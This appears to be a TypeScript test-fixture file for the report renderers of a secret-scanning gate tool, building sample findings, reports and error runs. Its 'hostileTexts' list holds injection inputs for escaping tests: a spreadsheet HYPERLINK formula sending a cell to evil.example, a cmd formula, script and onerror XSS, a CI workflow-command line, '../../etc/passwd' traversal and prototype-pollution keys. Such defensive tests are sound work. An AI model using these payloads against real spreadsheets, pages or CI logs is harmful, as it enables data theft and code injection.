/** Reports for the tests of the renderers. */
import { hash } from 'node:crypto'
import type { FindingRow } from '../../../src/export/finding-row.ts'
import type { Finding, Ruling } from '../../../src/finding.ts'
import type { JudgedFinding, Report } from '../../../src/report/model.ts'
import { rowMaker } from '../../fixtures/finding-rows.ts'

/** Findings that differ in more than the branch have different fingerprints. */
export function sampleFinding(changes: Partial<Finding & Ruling> = {}): JudgedFinding {
  const { project, repository, path, line, rule } = changes
  const place = [project, repository, path, line, rule]
  return {
    project: 'SHOP',
    repository: 'web',
    branch: 'main',
    path: 'src/config.ts',
    line: 12,
    rule: 'AWS_SECRET_ACCESS_KEY',
    scannedAt: Date.UTC(2026, 10, 20, 8, 30, 5),
    match: '[redacted]',
    severity: 'critical',
    status: 'new',
    fingerprint: place.every((part) => part === undefined)
      ? '0123456789abcdef0123456789abcdef'
      : hash('md5', JSON.stringify(place)),
    firstOfDistinct: true,
    ...changes,
  }
}

const rowOf = rowMaker()

/** The same as a row and its ruling. */
export function sampleRow(
  changes: Partial<Omit<Finding, 'fingerprint'> & Ruling> = {},
): [FindingRow, Ruling] {
  const given = { fingerprint: sampleFinding().fingerprint, ...changes }
  const { severity, status, fingerprint, firstOfDistinct, owner = '', ...finding } = sampleFinding(given)
  const row = rowOf({ ...finding, fingerprint: undefined, secret: '' })
  return [row, { severity, status, fingerprint, firstOfDistinct, owner }]
}

/** A report over `findings`, its counts made from them. */
export function sampleReport(findings: readonly JudgedFinding[] = [], changes: Partial<Report> = {}): Report {
  const counting = findings.filter((finding) => finding.status !== 'suppressed')
  const by = (name: (finding: JudgedFinding) => string): Record<string, number> => {
    const counts = Object.create(null) as Record<string, number>
    for (const finding of counting) counts[name(finding)] = (counts[name(finding)] ?? 0) + 1
    return counts
  }
  const total = counting.length
  const level = (word: string): number => counting.filter((finding) => finding.severity === word).length
  return {
    tool: { name: 'soteri-gate', version: '1.2.3' },
    operation: 'gate',
    targets: ['SHOP/web'],
    bitbucketUrl: 'https://git.example.com/bitbucket',
    runUrl: 'https://ci.example.com/run/7',
    mode: 'enforce',
    period: { from: null, to: null },
    evidence: {
      startedAt: '2026-11-20T08:00:00.000Z',
      finishedAt: '2026-11-20T09:00:00.000Z',
      targets: [
        {
          target: 'SHOP/web',
          triggeredAt: '2026-11-20T08:00:01.000Z',
          states: [{ at: '2026-11-20T08:00:02.000Z', state: 'finished' }],
          provenBy: 'seen running, then finished and up to date',
          total,
        },
      ],
      exports: [
        {
          source: 'SHOP/web',
          format: 'csv',
          bytes: 1234,
          sha256: 'a'.repeat(64),
          members: [{ name: 'export.csv', bytes: 1234, rows: total, refused: 0 }],
          columns: [{ read: [{ column: 'rule', header: '"Rule"' }], unread: ['"Author"'] }],
          rows: total,
          refused: 0,
        },
      ],
      findingsFile: {
        rows: findings.length,
        bytes: 2345,
        sha256: 'b'.repeat(64),
        keyCheck: null,
        suppressed: findings.length - total,
        reviewed: null,
      },
      policyFiles: [],
      skippedFiles: null,
      shards: [],
      notes: [],
    },
    counts: {
      total,
      distinct: counting.filter((finding) => finding.firstOfDistinct).length,
      new: counting.filter((finding) => finding.status === 'new').length,
      suppressed: findings.length - total,
      byRule: by((finding) => finding.rule),
      bySeverity: {
        critical: level('critical'),
        high: level('high'),
        medium: level('medium'),
        low: level('low'),
      },
      byProject: by((finding) => finding.project),
      byRepository: by((finding) => `${finding.project}/${finding.repository}`),
      byBranch: by((finding) => finding.branch),
      byOwner: byOwner(counting),
    },
    thresholds: [
      {
        name: 'total',
        selector: 'total',
        origin: 'default',
        level: 'fail',
        observed: total,
        max: 0,
        passed: total === 0,
        contributors:
          total === 0 ? [] : [{ repository: 'SHOP/web', rule: 'AWS_SECRET_ACCESS_KEY', count: total }],
        ...(total === 0 ? {} : { byRepository: by((finding) => `${finding.project}/${finding.repository}`) }),
      },
    ],
    verdict:
      total === 0
        ? {
            word: 'pass',
            exitCode: 0,
            sentence: 'pass: threshold "total": 0 found, limit 0',
            error: null,
          }
        : {
            word: 'fail',
            exitCode: 1,
            sentence: `fail: threshold "total": ${total} found, limit 0`,
            error: null,
          },
    shortlist: findings,
    shortlistCut: false,
    ...changes,
  }
}

function byOwner(findings: readonly JudgedFinding[]): Record<string, number> {
  const owned = Map.groupBy(findings, ({ owner = '' }) => owner)
  owned.delete('')
  return Object.fromEntries(Array.from(owned, ([owner, { length }]) => [owner, length]))
}

/** The same of a run whose formats have no csv. */
export function withoutFindingsFile(report: Report): Report {
  return { ...report, evidence: { ...report.evidence, findingsFile: null } }
}

/** A run that could not be judged: nothing read, so no thresholds. */
export function errorReport(message = 'No connection to git.example.com.'): Report {
  return sampleReport([], {
    thresholds: [],
    verdict: {
      word: 'error',
      exitCode: 4,
      sentence: `error (exit 4, UNREACHABLE): ${message} Check the firewall.`,
      error: { code: 'UNREACHABLE', message, hint: 'Check the firewall.' },
    },
  })
}

/** Texts that mean something to one format or another; none of them may. */
export const hostileTexts: readonly string[] = [
  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
  '+1+1',
  '-2+3',
  '@SUM(1)',
  '\uff1dcmd|calc',
  '\t=1',
  '\r=1',
  'a;=1+1',
  'a";=1+1',
  "';=1",
  'two\nlines',
  '::error::injected',
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '</details><h1>owned</h1>',
  '[link](http://evil.example)',
  '![image](http://evil.example/x.png)',
  '<http://evil.example>',
  'http://evil.example/a',
  'www.evil.example',
  'mail@evil.example',
  '@octocat and @org/team',
  'fixes #1, GH-2, org/repo#3',
  '`code` and ``more``',
  '```\nfence\n```',
  'a | b | c',
  'a \\| b',
  '\\',
  '*bold* _it_ ~~no~~ # head',
  '- list',
  '1. list',
  '> quote',
  '---',
  '$x$ and :tada:',
  ']]><x/>&amp;&#0;',
  '"quoted" and \'single\'',
  '\u202egpj.exe\u2066',
  '\u200bzero\u00adwidth\ufeff',
  '\u0000\u0001\u0008\u001b[31m\u007f\u0085\u2028',
  '\ud800lone',
  '\uffff\ufffe',
  '../../etc/passwd',
  '/absolute//twice',
  'C:\\windows\\x',
  'with blank#hash?query%41',
  'größe/漢字/😀.txt',
  '__proto__',
  'constructor',
  '%%{init: {"theme":"dark"}}%%',
  '',
  ' ',
  'x'.repeat(5000),
]

/** A report with `text` in every field that comes from outside. */
export function hostileReport(text: string): Report {
  const finding = sampleFinding({ project: text, repository: text, branch: text, path: text, rule: text })
  const base = sampleReport([finding, sampleFinding({ ...finding, status: 'suppressed', line: null })])
  const [exported] = base.evidence.exports
  const [target] = base.evidence.targets
  return {
    ...base,
    operation: 'gate',
    targets: [text],
    evidence: {
      ...base.evidence,
      targets:
        target === undefined
          ? []
          : [
              {
                ...target,
                target: text,
                provenBy: text,
                states: [{ at: base.evidence.startedAt, state: text }],
              },
            ],
      exports:
        exported === undefined
          ? []
          : [{ ...exported, source: text, members: [{ name: text, bytes: 1, rows: 1, refused: 0 }] }],
      notes: [text],
    },
    thresholds: base.thresholds.map((one) => ({
      ...one,
      name: text,
      selector: text,
      origin: text,
      contributors: [{ repository: text, rule: text, count: 1 }],
    })),
    verdict: {
      word: 'error',
      exitCode: 4,
      sentence: `error: ${text}`,
      error: { code: 'UNREACHABLE', message: `${text}\n${text}`, hint: text },
    },
  }
}

/** Every severity and status, a finding on two branches, one without a line. */
export const mixedFindings: readonly JudgedFinding[] = [
  sampleFinding(),
  sampleFinding({ branch: 'dev', firstOfDistinct: false }),
  sampleFinding({ rule: 'RSA_PRIVATE_KEY', severity: 'high', status: 'known', fingerprint: 'b'.repeat(32) }),
  sampleFinding({
    rule: 'OWN_RULE',
    severity: 'medium',
    status: 'suppressed',
    line: null,
    fingerprint: 'c'.repeat(32),
  }),
]
